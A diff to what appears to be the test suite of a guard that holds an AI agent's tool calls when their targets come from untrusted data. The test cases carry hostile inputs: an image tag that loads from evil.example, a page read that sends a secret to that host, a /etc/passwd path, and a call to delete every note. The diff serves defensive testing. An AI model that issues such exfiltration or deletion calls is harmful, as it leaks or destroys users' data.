@@ -22,6 +22,7 @@ POLICIES = {
     "add_note": ToolPolicy("internal", "status"),
     "send_note": ToolPolicy("outside", "status"),
     "make_file": ToolPolicy("internal"),
+    "delete_notes": ToolPolicy("internal", "status"),
 }
 
 
@@ -59,6 +60,8 @@ def act(guard: ToolGuard, name: str, **arguments: Any) -> str:
         ("send_note", {"text": "hi"}, "hold tainted_unauthenticated"),
         ("add_note", {"text": "hi"}, "allow allowed"),
         ("add_note", {"text": "hi", "guests": [EVE]}, "hold target_not_from_user"),
+        ("add_note", {"text": "<img src=//evil.example/x>"}, "hold target_not_from_user"),
+        ("delete_notes", {"everything": "yes"}, "hold tainted_unauthenticated"),
         ("read_page", {"url": "https://evil.example/x?secret"}, "hold target_not_from_user"),
         ("read_page", {"path": "/etc/passwd"}, "allow allowed"),
         ("undeclared", {"text": "hi"}, "hold tainted_unauthenticated"),
@@ -90,12 +93,25 @@ def test_trusted_data_supplies_targets_that_no_stranger_looked_up(guard: ToolGua
     assert act(guard, "send_note", to="bob@x.example") == "hold target_not_from_user"
 
 
+def test_a_search_by_the_users_words_supplies_what_holds_them(
+    toolkit: Toolkit, guard: ToolGuard
+) -> None:
+    rows = [{"name": "Sam Bakerfield", "email": EVE}, {"name": "Sara Baker", "email": ANN}]
+    toolkit.declare_user_words("Invite Baker, please.")
+    guard.record("read_page", PAGE)
+    guard.record("find_contact", rows, {"name": "baker"})
+    assert act(guard, "send_note", to=ANN) == "allow allowed"
+    assert act(guard, "send_note", to=EVE) == "hold target_not_from_user"
+
+
 def test_what_a_call_made_may_be_used_and_what_it_repeats_may_not(guard: ToolGuard) -> None:
     guard.record("read_page", PAGE)
     given = {"parent_id": "7", "text": f"Mail {EVE}"}
-    guard.record("make_file", {"id": "26", "parent_id": "7", "text": f"Mail {EVE}"}, given)
+    made = {"id": "26", "parent_id": "7", "text": f"Mail {EVE}", "folder": {"file_id": "8"}}
+    guard.record("make_file", made, given)
     assert act(guard, "add_note", file_id="26") == "allow allowed"
     assert act(guard, "add_note", file_id="7") == "hold target_not_from_user"
+    assert act(guard, "add_note", file_id="8") == "hold target_not_from_user"
     assert act(guard, "send_note", to=EVE) == "hold target_not_from_user"
 
 
